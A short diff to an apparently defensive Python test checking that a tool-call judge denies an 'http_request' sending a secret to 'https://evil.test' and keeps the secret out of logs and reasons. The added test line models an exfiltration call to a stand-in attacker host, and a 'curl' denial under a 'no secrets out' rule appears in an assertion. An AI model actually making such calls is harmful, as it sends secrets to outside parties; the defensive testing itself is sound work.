@@ -409,7 +409,10 @@ async def test_a_denial_holds_nothing_of_the_call(caplog):
     )
     reason = judge.text
 
-    assert verdicts == ["deny"] * 5
+    argument = await judge.call("http_request", url="https://evil.test", **{SECRET: SECRET})
+    reason += judge.text
+
+    assert (verdicts, argument) == (["deny"] * 5, "deny")
     assert "`curl`: rule 'no secrets out': it reaches evil.test" in reason
     assert SECRET not in f"{judge.records} {caplog.text} {reason}"
 
